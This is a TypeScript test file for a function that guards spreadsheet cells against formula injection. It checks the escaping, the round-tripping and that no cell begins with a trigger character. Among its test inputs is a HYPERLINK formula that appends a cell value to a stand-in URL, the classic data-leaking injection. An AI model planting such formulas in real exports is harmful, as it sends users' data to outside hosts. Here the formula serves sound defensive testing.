import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { guard, unguard } from '../../src/tables/index.ts';

describe('guard neutralises what a spreadsheet would run', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+49 30 1', "'+49 30 1"],
    ['-5', "'-5"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['\0=1', "'\0=1"],
    ['＝1', "'＝1"],
    [' =1', "' =1"],
    ['\u00a0=1', "'\u00a0=1"],
    ['\u200b=1', "'\u200b=1"],
    ['"=1', '"\'=1'],
    ['a;=1+1', "a;'=1+1"],
    ['a,=1', "a,'=1"],
    ['a, =1', "a,' =1"],
    ['a\t=1', "a\t'=1"],
    ["'=1", "''=1"],
    ["''=1", "'''=1"],
    ['=HYPERLINK("https://example.com?"&A1)', '\'=HYPERLINK("https://example.com?"&A1)'],
  ])('%j becomes %j and comes back', (text, guarded) => {
    expect(guard(text)).toBe(guarded);
    expect(unguard(guarded)).toBe(text);
  });

  it.each([
    'Anna',
    "O'Neill",
    'a=b',
    'Sales/DACH',
    '4-5',
    'anna@example.com',
    'C++',
    '%0A=1',
    "'",
    '',
  ])('leaves %j as it is', (text) => {
    expect(guard(text)).toBe(text);
    expect(unguard(text)).toBe(text);
  });
});

describe('guard loses nothing', () => {
  it('gives every text of up to five characters back', () => {
    const alphabet = ['=', "'", ';', '\t', '\n', '"', 'a', ' ', '＝', '\0'];
    let texts = [''];
    for (let length = 0; length < 5; length++) {
      texts = texts.flatMap((text) => alphabet.map((letter) => text + letter));
      const lost = texts.filter((text) => unguard(guard(text)) !== text);
      expect(lost).toEqual([]);
    }
  });

  it('gives any text back, guarded any number of times', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.nat(3), (text, times) => {
        let guarded = text;
        for (let i = 0; i <= times; i++) guarded = guard(guarded);
        for (let i = 0; i <= times; i++) guarded = unguard(guarded);
        expect(guarded).toBe(text);
      }),
    );
  });

  it('leaves no cell that begins with a trigger, at whichever delimiter the text is cut', () => {
    const letters = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      ';',
      ',',
      '|',
      '\t',
      '\n',
      '"',
      "'",
      'a',
      ' ',
    );
    fc.assert(
      fc.property(fc.string({ unit: letters, maxLength: 20 }), (text) => {
        for (const cell of guard(text).split(/[;,|\t\n"]/)) {
          expect(cell).not.toMatch(/^ *[=+\-@]/);
        }
      }),
    );
  });
});
